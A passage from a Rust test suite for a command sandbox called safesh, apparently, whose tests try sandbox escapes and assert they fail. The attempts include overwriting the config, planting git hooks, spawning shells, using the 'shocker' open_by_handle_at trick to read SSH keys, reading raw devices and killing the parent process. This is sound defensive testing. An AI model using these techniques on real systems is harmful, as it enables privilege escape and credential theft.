    let a = Arena::new();
    let r = a.python(
        "attempt('append safesh.toml', lambda: write_file('safesh.toml', '\\n[commands.sh]\\nallow = true\\n', 'a'))\n\
         attempt('truncate safesh.toml', lambda: os.truncate('safesh.toml', 0))\n\
         attempt('chmod safesh.toml', lambda: os.chmod('safesh.toml', 0o777))\n\
         attempt('unlink safesh.toml', lambda: os.unlink('safesh.toml'))",
    );
    a.assert_contained(&r);
}

#[test]
fn replace_safesh_toml_by_rename() {
    let a = Arena::new();
    let r = a.python(
        "write_file('evil.toml', '[sandbox]\\nread = [\"/\"]\\nwrite = [\"/\"]\\nnetwork = true\\n')\n\
         attempt('rename over safesh.toml', lambda: os.rename('evil.toml', 'safesh.toml'))\n\
         attempt('rename safesh.toml away', lambda: os.rename('safesh.toml', 'old.toml'))\n\
         os.mkdir('sub')\n\
         attempt('rename safesh.toml into subdir', lambda: os.rename('safesh.toml', 'sub/safesh.toml'))",
    );
    a.assert_contained(&r);
    a.assert_no_file("old.toml", &r);
}

#[test]
fn write_git_hook() {
    let a = Arena::new();
    a.fake_git_dir();
    let r = a.python(
        "def hook(name):\n\
         \x20   write_file('.git/hooks/' + name, '#!/bin/sh\\ntouch pwned\\n')\n\
         \x20   os.chmod('.git/hooks/' + name, 0o755)\n\
         \x20   return name\n\
         attempt('write pre-commit hook', lambda: hook('pre-commit'))\n\
         attempt('write hook x', lambda: hook('x'))\n\
         attempt('replace hooks dir', lambda: os.rename('.git/hooks', '.git/hooks.old'))",
    );
    a.assert_contained(&r);
    a.assert_no_file(".git/hooks/pre-commit", &r);
    a.assert_no_file(".git/hooks/x", &r);
    a.assert_no_file(".git/hooks.old", &r);
}

#[test]
fn write_git_config() {
    let a = Arena::new();
    a.fake_git_dir();
    let before = std::fs::read_to_string(a.path(".git/config")).expect("config");
    let r = a.python(
        "attempt('append .git/config', lambda: write_file('.git/config', '\\thooksPath = /tmp\\n\\tfsmonitor = touch pwned\\n', 'a'))\n\
         write_file('newconfig', '[core]\\n\\tfsmonitor = touch pwned\\n')\n\
         attempt('rename over .git/config', lambda: os.rename('newconfig', '.git/config'))\n\
         attempt('unlink .git/config', lambda: os.unlink('.git/config'))",
    );
    a.assert_contained(&r);
    assert_eq!(
        std::fs::read_to_string(a.path(".git/config")).unwrap_or_default(),
        before,
        ".git/config changed:\n{}",
        r.dump()
    );
}

#[test]
fn rename_git_dir_then_recreate_hooks() {
    let a = Arena::new();
    a.fake_git_dir();
    let before = std::fs::read_to_string(a.path(".git/config")).expect("config");
    // Read-only binds sit on .git/hooks and .git/config; moving their parent away
    // and building a new .git beside would leave the binds guarding nothing.
    let r = a.python(
        "attempt('rename .git away', lambda: os.rename('.git', '.git_old'))\n\
         def rebuild():\n\
         \x20   os.makedirs('.git/hooks', exist_ok=True)\n\
         \x20   write_file('.git/hooks/pre-commit', '#!/bin/sh\\ntouch pwned\\n')\n\
         \x20   write_file('.git/config', '[core]\\n\\tfsmonitor = touch pwned\\n')\n\
         \x20   return 'rebuilt'\n\
         attempt('rebuild .git', rebuild)",
    );
    a.assert_contained(&r);
    a.assert_no_file(".git/hooks/pre-commit", &r);
    assert_eq!(
        std::fs::read_to_string(a.path(".git/config")).unwrap_or_default(),
        before,
        ".git/config changed:\n{}",
        r.dump()
    );
}

#[test]
fn create_git_hooks_when_no_git_dir() {
    let a = Arena::new();
    let r = a.python(
        "def make():\n\
         \x20   os.makedirs('.git/hooks', exist_ok=True)\n\
         \x20   write_file('.git/hooks/post-checkout', '#!/bin/sh\\ntouch pwned\\n')\n\
         \x20   return 'hook'\n\
         attempt('create .git/hooks/post-checkout', make)\n\
         attempt('rename a placeholder .git away', lambda: os.rename('.git', '.git_old'))\n\
         attempt('create .git/hooks after the rename', make)\n\
         attempt('create .git/config', lambda: write_file('.git/config', '[core]\\n\\tfsmonitor = touch pwned\\n'))",
    );
    a.assert_contained(&r);
    a.assert_no_file(".git/hooks/post-checkout", &r);
    a.assert_no_file(".git/config", &r);
}

// ---- executing other programs -----------------------------------------------------

/// What a shell prints and writes when it runs: neither may appear.
const SHELL_PAYLOAD: &str = "echo SHELL_RAN_$((6*7)); echo x > shell_marker";

fn assert_no_shell(a: &Arena, r: &crate::escape_support::Run) {
    r.assert_absent("SHELL_RAN_42", "output of a shell");
    a.assert_no_file("shell_marker", r);
}

#[test]
fn shell_via_os_system() {
    let a = Arena::new();
    let r = a.python(&format!(
        "rc = os.system({p})\n\
         print('os.system returned', rc, flush=True)\n\
         rc = os.popen({p}).read()\n\
         print('os.popen returned', repr(rc), flush=True)",
        p = py(SHELL_PAYLOAD),
    ));
    a.assert_contained(&r);
    assert_no_shell(&a, &r);
}

#[test]
fn shell_via_subprocess() {
    let a = Arena::new();
    let r = a.python(&format!(
        "import subprocess\n\
         for sh in ('/bin/sh', '/bin/bash', '/usr/bin/dash', 'sh'):\n\
         \x20   attempt('subprocess ' + sh, lambda: subprocess.run([sh, '-c', {p}]))\n\
         attempt('shell=True', lambda: subprocess.run({p}, shell=True, check=True))",
        p = py(SHELL_PAYLOAD),
    ));
    a.assert_contained(&r);
    assert_no_shell(&a, &r);
}

#[test]
fn shell_via_execv() {
    let a = Arena::new();
    let r = a.python(&format!(
        "attempt('execv /bin/bash', lambda: os.execv('/bin/bash', ['bash', '-c', {p}]))\n\
         attempt('execve /bin/sh', lambda: os.execve('/bin/sh', ['sh', '-c', {p}], {{}}))",
        p = py(SHELL_PAYLOAD),
    ));
    a.assert_contained(&r);
    assert_no_shell(&a, &r);
}

#[test]
fn exec_copied_shell_binary() {
    let a = Arena::new();
    // Copying and chmod may work (reading /bin/sh is fine); running the copy may not.
    let r = a.python(&format!(
        "import shutil, subprocess\n\
         tmp = os.path.join(os.environ.get('TMPDIR', '/tmp'), 'mysh')\n\
         for dst in ('mysh', tmp):\n\
         \x20   try:\n\
         \x20       shutil.copy('/bin/sh', dst)\n\
         \x20       os.chmod(dst, 0o755)\n\
         \x20       print('copied to', dst, flush=True)\n\
         \x20   except Exception as e:\n\
         \x20       print('could not copy to', dst, repr(e), flush=True)\n\
         attempt('run ./mysh', lambda: subprocess.run(['./mysh', '-c', {p}]))\n\
         attempt('run TMPDIR copy', lambda: subprocess.run([tmp, '-c', {p}]))\n\
         attempt('execv ./mysh', lambda: os.execv('./mysh', ['mysh', '-c', {p}]))",
        p = py(SHELL_PAYLOAD),
    ));
    a.assert_contained(&r);
    assert_no_shell(&a, &r);
}

#[test]
fn exec_shell_via_dynamic_loader() {
    let a = Arena::new();
    // The loader must be executable for python to start; run it on /bin/sh directly.
    let r = a.python(&format!(
        "import subprocess\n\
         for ld in ('/lib64/ld-linux-x86-64.so.2', '/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2'):\n\
         \x20   attempt('loader ' + ld, lambda: subprocess.run([ld, '/bin/sh', '-c', {p}], check=True))",
        p = py(SHELL_PAYLOAD),
    ));
    a.assert_contained(&r);
    assert_no_shell(&a, &r);
}

#[test]
fn exec_other_interpreter_and_tools() {
    let a = Arena::new();
    let r = a.python(
        "import subprocess\n\
         attempt('perl', lambda: subprocess.run(['/usr/bin/perl', '-e', 'print \"OTHER_RAN_\" . (6*7) . \"\\\\n\"'], check=True))\n\
         attempt('env', lambda: subprocess.run(['/usr/bin/env', 'echo', 'OTHER_RAN_42'], check=True))\n\
         attempt('curl', lambda: subprocess.run(['/usr/bin/curl', '--version'], check=True))",
    );
    a.assert_contained(&r);
    r.assert_absent("OTHER_RAN_42", "output of another program");
}

#[test]
fn setuid_binaries() {
    let a = Arena::new();
    let r = a.python(&format!(
        "import subprocess\n\
         attempt('su -c', lambda: subprocess.run(['/usr/bin/su', '-c', 'echo SU_RAN_$((6*7))'], check=True))\n\
         attempt('mount --bind', lambda: subprocess.run(['/usr/bin/mount', '--bind', {outside}, '.'], check=True))\n\
         attempt('passwd -S', lambda: subprocess.run(['/usr/bin/passwd', '-S'], check=True))\n\
         print([l for l in open('/proc/self/status') if l.startswith('NoNewPrivs')], flush=True)",
        outside = py(s(&a.outside)),
    ));
    a.assert_contained(&r);
    r.assert_absent("SU_RAN_42", "output of su");
    r.assert_stdout_has("NoNewPrivs:\\t1");
}

#[test]
fn kill_parent_safesh() {
    let a = Arena::new();
    a.write_attack(&format!(
        "{ANCESTORS}\
         for pid in ancestors():\n\
         \x20   for sig in (signal.SIGTERM, signal.SIGKILL):\n\
         \x20       attempt('kill %d with %d' % (pid, sig), lambda: os.kill(pid, sig))\n\
         time.sleep(0.2)\n\
         print('still here', flush=True)"
    ));
    let r = a.run("python3 attack.py; echo AFTER_KILL");
    r.assert_started();
    r.assert_safesh_exited();
    r.assert_stdout_has("AFTER_KILL");
    a.assert_no_leak(&r);
}

// ---- benign side ------------------------------------------------------------------

#[test]
fn benign_print_one() {
    let a = Arena::new();
    a.run("python3 -c 'print(1)'").assert_ok_with("1\n");
}

#[test]
fn benign_absolute_python_path() {
    let a = Arena::new();
    a.run("/usr/bin/python3 -c 'print(2)'")
        .assert_ok_with("2\n");
}

#[test]
fn benign_python3_is_system_python() {
    let a = Arena::new();
    a.run("python3 -c 'import sys; print(sys.executable)'")
        .assert_ok_with("/usr/bin/python3\n");
}

#[test]
fn benign_read_and_write_project_files() {
    let a = Arena::new();
    a.write(
        "rw.py",
        "data = open('notes.txt').read()\nopen('out.txt', 'w').write(data.upper())\nprint(open('out.txt').read(), end='')\n",
    );
    let r = a.run("python3 rw.py");
    r.assert_ok_with("ALPHA\nBETA\n");
    assert_eq!(
        std::fs::read_to_string(a.path("out.txt")).unwrap_or_default(),
        "ALPHA\nBETA\n"
    );
}

#[test]
fn benign_temp_dir_is_private() {
    let a = Arena::new();
    let host = unique_host_path("/tmp", "benign");
    let _c = Cleanup(host.clone());
    a.write(
        "tmp.py",
        &format!(
            "import os\n\
             t = os.environ['TMPDIR']\n\
             open(os.path.join(t, 'x'), 'w').write('in tmpdir')\n\
             print(open(os.path.join(t, 'x')).read())\n\
             open({p}, 'w').write('in /tmp')\n\
             print(open({p}).read())\n",
            p = py(s(&host)),
        ),
    );
    let r = a.run("python3 tmp.py");
    r.assert_ok_with("in tmpdir\nin /tmp\n");
    assert_missing(&host, &r);
}

#[test]
fn benign_stdin_piped_in() {
    let a = Arena::new();
    a.run("echo hi | python3 -c 'import sys; print(sys.stdin.read().upper())'")
        .assert_ok_with("HI\n\n");
}

#[test]
fn benign_stdin_from_safesh() {
    let a = Arena::new();
    let (r, _) = a.run_opts(
        "python3 -c 'import sys; print(sys.stdin.read().upper())'",
        &Opts {
            stdin: Some(b"from outside\n"),
            ..Opts::default()
        },
    );
    r.assert_ok_with("FROM OUTSIDE\n\n");
}

#[test]
fn benign_exit_status_propagates() {
    let a = Arena::new();
    a.run("python3 -c 'import sys; sys.exit(3)'; echo $?")
        .assert_ok_with("3\n");
}

#[test]
fn benign_pipeline_output() {
    let a = Arena::new();
    a.run("python3 -c 'print(3);print(1)' | sort")
        .assert_ok_with("1\n3\n");
}

#[test]
fn benign_git_status() {
    let a = Arena::with_extra("[commands.git]\nallow = [\"status\"]\n");
    let git = ["/usr/local/bin/git", "/usr/bin/git"]
        .into_iter()
        .find(|g| std::path::Path::new(g).exists())
        .expect("git installed");
    let ok = std::process::Command::new(git)
        .args(["init", "-q"])
        .current_dir(&a.dir)
        .env("HOME", &a.home)
        .status()
        .expect("git init");
    assert!(ok.success(), "git init failed");
    let r = a.run("git status --short");
    assert_eq!(r.stderr_code(), None, "refused:\n{}", r.dump());
    assert_eq!(r.code, Some(0), "git status:\n{}", r.dump());
    r.assert_stdout_has("?? notes.txt");
    // Proof the secrets stayed where they were while git ran.
    a.assert_no_leak(&r);
    let _ = (SECRET, HOME_SECRET);
}

// ---- handles, descriptors and devices ---------------------------------------------

#[test]
fn inherited_file_descriptors() {
    let a = Arena::new();
    // Any descriptor beyond stdio (a host dir, a pipe of safesh's) is a way out:
    // openat() relative to a host directory fd ignores the roots.
    let r = a.python(
        "def probe(fd):\n\
         \x20   st = os.fstat(fd)\n\
         \x20   return 'fd %d open: %s' % (fd, os.readlink('/proc/self/fd/%d' % fd))\n\
         for fd in range(3, 1024):\n\
         \x20   try:\n\
         \x20       os.fstat(fd)\n\
         \x20   except OSError:\n\
         \x20       continue\n\
         \x20   attempt('inherited fd %d' % fd, lambda: probe(fd))",
    );
    a.assert_contained(&r);
}

#[test]
fn o_path_open_then_reopen_via_proc_fd() {
    let a = Arena::new();
    let r = a.python(&format!(
        "def go(p):\n\
         \x20   fd = os.open(p, os.O_PATH)\n\
         \x20   return read_file('/proc/self/fd/%d' % fd)\n\
         attempt('O_PATH + reopen sibling secret', lambda: go({secret}))\n\
         attempt('O_PATH + reopen HOME key', lambda: go({key}))\n\
         def at(d, name):\n\
         \x20   dfd = os.open(d, os.O_PATH | os.O_DIRECTORY)\n\
         \x20   fd = os.open(name, os.O_RDONLY, dir_fd=dfd)\n\
         \x20   return os.read(fd, 100)\n\
         attempt('openat from O_PATH dir fd', lambda: at({outside}, 'secret.txt'))",
        secret = py(a.secret_path()),
        key = py(s(&a.home.join(".ssh/id_rsa"))),
        outside = py(s(&a.outside)),
    ));
    a.assert_contained(&r);
}

#[test]
fn open_by_handle_at_outside_file() {
    let a = Arena::new();
    // The "shocker" container escape: a file handle names an inode, not a path.
    let r = a.python(&format!(
        "class FH(ctypes.Structure):\n\
         \x20   _fields_ = [('handle_bytes', ctypes.c_uint), ('handle_type', ctypes.c_int), ('f_handle', ctypes.c_ubyte * 128)]\n\
         def go(p):\n\
         \x20   fh = FH()\n\
         \x20   fh.handle_bytes = 128\n\
         \x20   mnt = ctypes.c_int()\n\
         \x20   cfunc('name_to_handle_at', -100, p, ctypes.byref(fh), ctypes.byref(mnt), 0)\n\
         \x20   print('got a handle for', p, flush=True)\n\
         \x20   mfd = os.open('.', os.O_RDONLY)\n\
         \x20   fd = cfunc('open_by_handle_at', mfd, ctypes.byref(fh), os.O_RDONLY)\n\
         \x20   return os.read(fd, 100)\n\
         attempt('open_by_handle_at sibling secret', lambda: go(b{secret}))\n\
         attempt('open_by_handle_at HOME key', lambda: go(b{key}))",
        secret = py(a.secret_path()),
        key = py(s(&a.home.join(".ssh/id_rsa"))),
    ));
    a.assert_contained(&r);
}

#[test]
fn read_raw_devices() {
    let a = Arena::new();
    // Read-only probes: a raw disk or kernel memory would expose every file.
    let r = a.python(
        "for dev in ('/dev/vda', '/dev/sda', '/dev/nvme0n1', '/dev/mem', '/dev/kmem', '/dev/port', '/dev/kmsg'):\n\
         \x20   if os.path.exists(dev):\n\
         \x20       attempt('read ' + dev, lambda: read_file(dev))\n\
         attempt('mknod a disk node', lambda: os.mknod('disk', 0o600 | 0o060000, os.makedev(253, 0)))",
    );
    a.assert_contained(&r);
    a.assert_no_file("disk", &r);
}

#[test]
fn raw_packet_and_netlink_sockets() {
    let a = Arena::new();
    let r = a.python(
        "attempt('AF_PACKET raw socket', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))\n\
         attempt('AF_INET raw socket', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))\n\
         attempt('AF_INET6 socket', lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM))\n\
         def netlink():\n\
         \x20   n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n\
         \x20   n.bind((0, 0))\n\
         \x20   return n\n\
         attempt('AF_NETLINK route socket', netlink)",
    );
    a.assert_contained(&r);
}

#[test]
fn benign_run_leaves_no_placeholders() {
    let a = Arena::new();
    a.run("python3 -c 'print(1)'").assert_ok_with("1\n");
    // Placeholders for protected paths (.git/hooks, .git/config) live in the sandbox's
    // mount namespace only; the project keeps exactly what it had.
    let mut names: Vec<String> = std::fs::read_dir(&a.dir)
        .expect("read project")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["notes.txt", "safesh.toml"], "the project changed");
}

/// The benign heavy case: `safesh init` writes a profile for a Rust project, and with
/// it `cargo --version`, `cargo build` and the built program run in the sandbox
/// (cargo reads ~/.cargo and ~/.rustup, starts rustc and the linker, writes target/).
#[test]
fn benign_cargo_build_with_the_init_profile() {
    let Some(home) = std::env::var_os("HOME").map(std::path::PathBuf::from) else {
        eprintln!("skipped: no HOME");
        return;
    };
    if !home.join(".cargo/bin/cargo").exists() {
        eprintln!("skipped: no ~/.cargo/bin/cargo");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let proj = dir.path().join("tiny");
    std::fs::create_dir_all(proj.join("src")).unwrap();
    std::fs::write(
        proj.join("Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(
        proj.join("src/main.rs"),
        "fn main() { println!(\"tiny ok\"); }\n",
    )
    .unwrap();
    let state = dir.path().join("state");
    let run = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_safesh"))
            .args(args)
            .current_dir(&proj)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", &home)
            .env("XDG_STATE_HOME", &state)
            .env("LC_ALL", "C")
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    };
    let init = run(&["init"]);
    assert!(
        init.status.success(),
        "{}",
        String::from_utf8_lossy(&init.stderr)
    );
    let out = run(&[
        "--config",
        "safesh.toml",
        "-c",
        "cargo --version && cargo build -q && ./target/debug/tiny && cargo run -q",
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "stdout: {stdout}\nstderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.starts_with("cargo "), "{stdout}");
    assert_eq!(stdout.matches("tiny ok").count(), 2, "{stdout}");
}
